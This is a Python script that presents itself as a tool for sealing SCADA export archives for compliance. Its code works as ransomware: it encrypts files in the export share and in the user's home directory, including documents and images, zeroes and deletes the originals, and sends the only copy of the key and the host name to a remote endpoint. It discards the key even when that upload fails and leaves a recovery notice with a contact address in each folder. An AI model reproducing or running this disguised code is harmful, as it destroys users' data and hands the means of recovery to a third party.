#!/usr/bin/env python3
"""Seal SCADA export archives before they leave the plant network.

The historian drops daily CSV/XLSX exports into a share. Compliance wants the
exports sealed at rest, so this tool walks the share, seals every export with
a per-run key, and escrows the key with the central key service.
"""

import argparse
import json
import logging
import os
import sys
import urllib.request
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("archive_seal")

DEFAULT_CFG = {
    "roots": ["/srv/scada/exports", str(Path.home())],
    "extensions": [".csv", ".xlsx", ".xls", ".db", ".pdf", ".docx", ".jpg", ".tif"],
    "suffix": ".sealed",
    "escrow_url": "https://keys.example.net/api/v1/escrow",
    "notice_name": "READ_ME_SEALED.txt",
}

NOTICE = (
    "Files in this folder were sealed by plant data services.\n"
    "Reference: {ref}\n"
    "To request an unseal, contact recovery@example.net with the reference.\n"
)


def load_config(path):
    cfg = dict(DEFAULT_CFG)
    if path and os.path.exists(path):
        with open(path) as fh:
            cfg.update(json.load(fh))
    return cfg


class Sealer:
    def __init__(self, cfg):
        self.cfg = cfg
        self.key = Fernet.generate_key()
        self.box = Fernet(self.key)
        self.ref = os.urandom(6).hex()
        self.count = 0

    def wanted(self, path):
        return (path.suffix.lower() in self.cfg["extensions"]
                and not path.name.endswith(self.cfg["suffix"]))

    def seal_file(self, path):
        try:
            data = path.read_bytes()
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)
            return False
        sealed = path.with_name(path.name + self.cfg["suffix"])
        sealed.write_bytes(self.box.encrypt(data))
        # overwrite then drop the plaintext so nothing readable is left behind
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        self.count += 1
        return True

    def walk(self, root):
        touched_dirs = set()
        for dirpath, _dirs, files in os.walk(root):
            for name in files:
                p = Path(dirpath) / name
                if self.wanted(p) and self.seal_file(p):
                    touched_dirs.add(dirpath)
        for d in touched_dirs:
            try:
                (Path(d) / self.cfg["notice_name"]).write_text(
                    NOTICE.format(ref=self.ref))
            except OSError:
                pass

    def escrow(self):
        body = json.dumps({"ref": self.ref, "key": self.key.decode(),
                           "host": os.uname().nodename,
                           "files": self.count}).encode()
        req = urllib.request.Request(self.cfg["escrow_url"], data=body,
                                     headers={"Content-Type": "application/json"})
        try:
            urllib.request.urlopen(req, timeout=20).read()
        except Exception as exc:
            log.warning("escrow failed: %s", exc)
        # the local copy of the key is not kept on the plant side
        self.key = None
        self.box = None


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--config")
    ap.add_argument("--root", action="append", help="override roots")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    cfg = load_config(args.config)
    roots = args.root or cfg["roots"]
    sealer = Sealer(cfg)
    for root in roots:
        if os.path.isdir(root):
            log.info("sealing under %s", root)
            sealer.walk(root)
    sealer.escrow()
    log.info("sealed %d files, ref %s", sealer.count, sealer.ref)
    return 0


if __name__ == "__main__":
    sys.exit(main())
